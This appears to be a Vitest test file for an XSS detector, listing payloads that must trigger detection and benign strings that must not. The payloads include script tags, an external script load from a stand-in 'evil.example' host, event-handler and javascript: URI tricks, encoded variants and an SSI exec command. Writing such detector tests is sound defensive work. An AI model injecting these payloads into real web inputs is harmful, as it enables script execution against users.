import { describe, expect, it } from 'vitest';
import { createInjectionInspector } from '../create-injection-inspector.js';

const inspector = createInjectionInspector();
const fires = (value: string) => inspector.inspectValue(value, 'query.q').some((h) => h.class === 'xss');

describe('xss detector', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(document.domain) x='",
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    'java\tscript:alert(1)',
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    '<div style="background:url(javascript:alert(1))">',
    "';alert(String.fromCharCode(88,83,83))//",
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#x6a;avascript:alert(1)',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '＜script＞alert(1)＜/script＞',
    '<!--#exec cmd="ls"-->',
  ])('fires on %j', (value) => {
    expect(fires(value)).toBe(true);
  });

  it.each([
    'a < b and c > d holds',
    'JavaScript: The Good Parts',
    'I love this! <3',
    'Use <b>bold</b> and <i>italic</i>',
    'price < 10 && rating > 4',
    'online=true',
    'See https://example.com/path?x=1&y=2',
    'the document was signed',
  ])('does not fire on %j', (value) => {
    expect(fires(value)).toBe(false);
  });

  it('reports formatting tags only at paranoia 3', () => {
    const strict = createInjectionInspector({ paranoia: 3 });
    expect(strict.inspectValue('Use <b>bold</b>', 'body./text').some((h) => h.class === 'xss')).toBe(true);
  });
});
